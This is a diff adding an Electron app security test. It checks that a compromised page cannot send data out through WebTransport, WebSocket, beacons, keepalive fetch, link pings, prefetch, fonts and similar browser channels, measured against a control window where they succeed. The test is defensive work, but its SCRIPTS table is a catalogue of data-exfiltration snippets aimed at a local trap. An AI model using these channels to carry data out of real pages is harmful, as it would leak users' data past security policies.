@@ -1,5 +1,8 @@
-// Ways out of the window that neither its policy nor its request handler sees (S6): WebRTC by STUN and TURN, by UDP and
-// TCP. A data channel could carry every lead away.
+// Ways out of the window (S6) besides the policy probes of security.spec.ts: WebRTC by STUN and TURN, by UDP and TCP, which
+// neither the policy nor the request handler sees, and all other elements and calls of the platform that open a
+// connection. Each must leave a trap untouched that a window without the refusals reaches.
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import type { Page } from '@playwright/test'
 import { noteFigure } from '../../faults/figures.ts'
 import { openControlWindow } from '../../support/electron/application.ts'
@@ -57,5 +60,117 @@ test('no WebRTC leaves the window, by UDP or by TCP (S6)', async ({ launch }) =>
     n: reached.length,
     result: '0 datagrams, 0 connections',
     control: `${reached.length} kinds through in a window without the refusals`,
+  })
+})
+
+/**
+ * Scripts of a compromised page by name; `HOST` stands for `127.0.0.1:port`. Those that end in `ping` want a click.
+ * `dns-prefetch` is none of them: it opens no connection to a host and cannot be refused (docs/security.md).
+ */
+const SCRIPTS = {
+  WebTransport: `const transport = new WebTransport('https://HOST/'); await transport.ready`,
+  WebSocket: `new WebSocket('ws://HOST/')`,
+  EventSource: `new EventSource('http://HOST/')`,
+  beacon: `navigator.sendBeacon('http://HOST/', 'leads')`,
+  'fetch that outlives the page': `await fetch('http://HOST/', { method: 'POST', keepalive: true, mode: 'no-cors', body: 'leads' })`,
+  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('POST', 'http://HOST/'); request.send('leads')`,
+  'module import': `await import('http://HOST/module.js')`,
+  'ping of a link': `const link = add('a', { href: '#there', ping: 'http://HOST/' }); link.click()`,
+  preconnect: `add('link', { rel: 'preconnect', href: 'http://HOST/' })`,
+  prefetch: `add('link', { rel: 'prefetch', href: 'http://HOST/' })`,
+  preload: `add('link', { rel: 'preload', as: 'image', href: 'http://HOST/' })`,
+  modulepreload: `add('link', { rel: 'modulepreload', href: 'http://HOST/' })`,
+  'speculation rules': `add('script', { type: 'speculationrules' }, '{"prefetch":[{"source":"list","urls":["http://HOST/"],"eagerness":"immediate"}]}')`,
+  icon: `add('link', { rel: 'icon', href: 'http://HOST/icon.png' })`,
+  video: `add('video', { src: 'http://HOST/', preload: 'auto' }).load()`,
+  embed: `add('embed', { src: 'http://HOST/', type: 'text/html' })`,
+  'image of an SVG': `add('div').innerHTML = '<svg><image href="http://HOST/" width="9" height="9"/></svg>'`,
+  'button with a picture': `add('input', { type: 'image', src: 'http://HOST/' })`,
+  'background of a style': `add('div').style.backgroundImage = 'url(http://HOST/)'`,
+  font: `await new FontFace('probe', 'url(http://HOST/)').load()`,
+} as const
+
+/** Electron 33 follows neither in any window, so that these prove nothing there. */
+const FOLLOWED_NOWHERE = ['icon', 'preconnect']
+
+/** Runs one of them in the page; what it throws is a refusal like any other. */
+function runScript(page: Page, script: string, host: string): Promise<void> {
+  return page.evaluate(
+    async (source) => {
+      const add = (tag: string, attributes: Record<string, string> = {}, text = '') => {
+        const element = document.createElement(tag)
+        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
+        element.textContent = text
+        document.body.append(element)
+        return element
+      }
+      const AsyncFunction = Object.getPrototypeOf(async () => undefined).constructor
+      const run = AsyncFunction('add', source)(add).catch(() => undefined)
+      await Promise.race([run, new Promise((resolve) => setTimeout(resolve, 1_500))])
+    },
+    script.replaceAll('HOST', host),
+  )
+}
+
+/** A page without a policy, from an origin that the platform takes for secure. */
+async function startPlainPage() {
+  const server = createServer((_, response) => {
+    response.setHeader('content-type', 'text/html')
+    response.end('<title>control</title>')
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  const { port } = server.address() as AddressInfo
+  return {
+    address: `http://127.0.0.1:${port}/`,
+    close: () =>
+      new Promise<void>((resolve) => {
+        server.closeAllConnections()
+        server.close(() => resolve())
+      }),
+  }
+}
+
+test('nothing else that the platform offers leaves the window (S6)', async ({ launch }) => {
+  test.setTimeout(180_000)
+  const { app, page } = await launch()
+  await expect(page.getByLabel('Endereço da API')).toBeVisible()
+  const plain = await startPlainPage()
+  const control = await openControlWindow(app)
+  await control.goto(plain.address)
+  const touched = (caught: { datagrams: number; connections: number }) =>
+    caught.datagrams + caught.connections > 0
+  const reached: string[] = []
+  const left: string[] = []
+  try {
+    for (const [name, script] of Object.entries(SCRIPTS)) {
+      const [trap, other] = [await startNetworkTrap(), await startNetworkTrap()]
+      try {
+        await runScript(page, script, `127.0.0.1:${trap.port}`)
+        await runScript(control, script, `127.0.0.1:${other.port}`)
+        const isReached = await expect
+          .poll(() => touched(other.caught()), { timeout: 3_000 })
+          .toBe(true)
+          .then(() => true)
+          .catch(() => false)
+        if (isReached) reached.push(name)
+        if (touched(trap.caught())) left.push(name)
+      } finally {
+        await trap.close()
+        await other.close()
+      }
+    }
+  } finally {
+    await plain.close()
+  }
+  expect(left).toEqual([])
+  // Control: a window without the refusals gets out by each.
+  const proven = Object.keys(SCRIPTS).filter((name) => !FOLLOWED_NOWHERE.includes(name))
+  expect(reached).toEqual(proven)
+  noteFigure({
+    row: 'S6',
+    what: 'other ways of the platform: WebTransport, ping, beacon, preconnect, prefetch, fonts and so on',
+    n: proven.length,
+    result: '0 datagrams, 0 connections',
+    control: `${reached.length} through in a window without the refusals`,
   })
 })
